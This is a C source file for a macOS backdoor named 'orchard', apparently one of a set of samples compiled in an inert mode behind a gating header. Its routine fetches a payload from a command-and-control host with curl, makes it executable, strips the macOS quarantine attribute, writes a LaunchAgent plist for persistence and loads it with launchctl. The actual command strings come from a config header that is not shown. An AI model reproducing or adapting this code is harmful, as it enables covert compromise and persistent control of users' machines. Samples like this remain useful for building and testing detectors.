/* orchard - macOS backdoor: copies itself under ~/Library, strips the quarantine attribute, writes a
 * LaunchAgent plist (RunAtLoad, KeepAlive), loads it with launchctl and checks in to CFG_C2 with curl.
 * Built with clang for x86_64 and arm64 against a text stub of libSystem (src/support/macos-sdk).
 * Inert: see common/inert.h. */
#include "config.h"
#include "../../common/inert.h"

typedef unsigned long size_t;
typedef struct FILE FILE;
extern char *getenv(const char *);
extern FILE *fopen(const char *, const char *);
extern int fprintf(FILE *, const char *, ...);
extern int fclose(FILE *);
extern int snprintf(char *, size_t, const char *, ...);
extern int system(const char *);
extern int mkdir(const char *, unsigned short);
extern int chmod(const char *, unsigned short);

static int family_run(void)
{
    char plist[1024], target[1024], cmd[2048];
    const char *home = getenv("HOME");
    FILE *f;
    if (home == 0)
        return 1;
    snprintf(target, sizeof target, "%s/%s", home, CFG_INSTALL_REL);
    snprintf(plist, sizeof plist, "%s/%s", home, CFG_PLIST_REL);
    snprintf(cmd, sizeof cmd, CFG_CURL, CFG_UA_VER, target, CFG_C2);
    if (system(cmd) != 0)
        return 2;
    chmod(target, 0755);
    snprintf(cmd, sizeof cmd, CFG_XATTR, target);
    system(cmd);
    f = fopen(plist, "w");
    if (f == 0)
        return 3;
    fprintf(f, CFG_PLIST_FMT, CFG_LABEL, target);
    fclose(f);
    snprintf(cmd, sizeof cmd, CFG_LAUNCHCTL, plist);
    return system(cmd);
}

int main(int argc, char **argv)
{
    if (!spoor_armed(argc, argv))
        return 0;
    if (spoor_never)
        return family_run();
    return spoor_checksum(CFG_FAMILY CFG_VARIANT);
}
